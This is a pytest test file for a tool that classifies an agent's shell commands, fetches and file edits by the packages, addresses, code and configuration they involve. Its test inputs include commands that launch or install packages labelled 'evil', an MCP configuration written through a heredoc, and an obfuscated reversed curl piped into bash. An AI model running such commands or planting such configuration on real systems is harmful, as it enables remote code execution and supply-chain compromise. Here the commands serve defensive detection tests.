"""Which words of a call matter, for what."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from spawngate.command.calls import understand_call
from spawngate.command.context import CallContext
from spawngate.launch.definition import from_mapping
from spawngate.launch.understand import understand
from spawngate.model.call import Edit, ToolCall, ToolKind
from spawngate.provenance.subjects import KINDS, Subject, launch_subject, packages_in, subjects_of, written

CONTEXT = CallContext(home="/home/ann", cwd="/p", project="/p")


def of(call: ToolCall) -> list[Subject]:
    return subjects_of(call, understand_call(call, CONTEXT), "/home/ann")


def shell(command: str) -> list[Subject]:
    return of(ToolCall("a", "Bash", ToolKind.SHELL, commands=(command,), cwd="/p"))


def names(subjects: list[Subject]) -> dict[str, set[str]]:
    found: dict[str, set[str]] = {}
    for subject in subjects:
        found.setdefault(subject.kind, set()).update(subject.names)
    return found


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("claude mcp add tool -- npx -y @evil/mcp-x", {"launch": {"npx", "@evil/mcp-x"}}),
        ("npx -y @evil/mcp-x", {"launch": {"@evil/mcp-x"}}),
        ("pip install evilpkg", {"install": {"evilpkg"}}),
        ("npx cowsay-x hello", {"install": {"cowsay-x"}}),
        ("git status", {}),
        ("ls -la | head", {}),
        ("pytest -q tests", {}),
    ],
)
def test_names(command: str, expected: dict[str, set[str]]) -> None:
    assert names(shell(command)) == expected


def test_the_last_of_many_counts() -> None:
    assert names(shell("npx -y a-1; " * 200 + "npx -y @evil/mcp-x")) == {"install": {"a-1"}, "launch": {"@evil/mcp-x"}}
    many = " ".join(f"a{number}" for number in range(500))
    assert "evilpkg" in names(shell(f"pip install {many} evilpkg"))["install"]


def test_addresses() -> None:
    assert shell("curl -s https://a.test/x") == [Subject("address", ("a.test",), "https://a.test/x")]
    call = ToolCall("a", "WebFetch", ToolKind.FETCH, urls=("https://a.test/x",))
    assert of(call) == [Subject("address", ("https://a.test/x",))]


def test_code() -> None:
    (subject,) = shell("python3 -c 'import glyph; glyph.run()'")
    assert subject == Subject("code", code="import glyph; glyph.run()")
    runs = [subject.runs for subject in shell("bash ./setup.sh")]
    assert runs == [("/p/setup.sh",)]


def test_code_that_comes_about_in_a_pipe() -> None:
    command = "echo 'h/tset.a//:sptth lruc' | ./turn-around | bash"
    assert command in [subject.code for subject in shell(command) if subject.kind == "code"]


def test_configuration_by_shell() -> None:
    text = '{"mcpServers": {"t": {"command": "uvx", "args": ["evil-tool"]}}}'
    command = f"cat > .mcp.json <<'E'\n{text}\nE"
    found = shell(command)
    assert names(found)["configuration"] == {"evil-tool"}
    assert Subject("configuration", text=command) in found


@pytest.mark.parametrize(
    ("path", "kinds"),
    [
        ("/p/.mcp.json", {"configuration"}),
        ("/home/ann/.claude/settings.json", {"configuration"}),
        ("/p/CLAUDE.md", {"instructions"}),
        ("/home/ann/.bashrc", {"startup"}),
        ("/p/.github/workflows/ci.yml", {"startup"}),
        ("/p/src/app.py", set()),
    ],
)
def test_edits(path: str, kinds: set[str]) -> None:
    call = ToolCall(
        "a", "Write", ToolKind.WRITE, paths=(path,), edits=(Edit(path, None, "see https://a.test"),), cwd="/p"
    )
    assert {subject.kind for subject in of(call)} == kinds


def test_launches_in_a_text() -> None:
    text = '{"a": {"command": "npx", "args": ["-y", "evil-x"]}, "b": [{"url": "https://b.test/mcp"}]}'
    found = list(written("configuration", text))
    assert names(found) == {"configuration": {"evil-x", "b.test", "https://b.test/mcp"}}
    assert list(written("configuration", "no structure")) == [Subject("configuration", text="no structure")]
    fragment = '"x": {"command": "npx", "args": ["evil-y"]}'
    assert names(list(written("configuration", fragment)))["configuration"] == {"evil-y"}


def test_launch() -> None:
    facts = understand(from_mapping({"command": "node", "args": ["./server.js", "--key", "v"]}))
    subject = launch_subject(facts)
    assert (subject.kind, subject.runs) == ("launch", ("./server.js",))


@given(st.text(max_size=100))
def test_any_text(text: str) -> None:
    for subject in (*written("configuration", text), *shell(text)):
        assert subject.kind in KINDS


@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("execSync('npx -y kelrin-marsab init --all')", ("kelrin-marsab", "init")),
        ('spawn("npx", ["-y", "kelrin-marsab"])', ("kelrin-marsab",)),
        ("subprocess.run(['uvx', 'kelrin'])", ("kelrin",)),
        ("pip install -q a b; rm c", ("a", "b")),
        ("npm install\nnode x", ()),
        ("docker run --rm -i org/image:1 setup", ("org/image:1", "setup")),
        ("the npx command", ("command",)),
        ("fnpx a", ()),
    ],
)
def test_packages_in_a_script(text: str, names: tuple[str, ...]) -> None:
    assert packages_in(text) == names
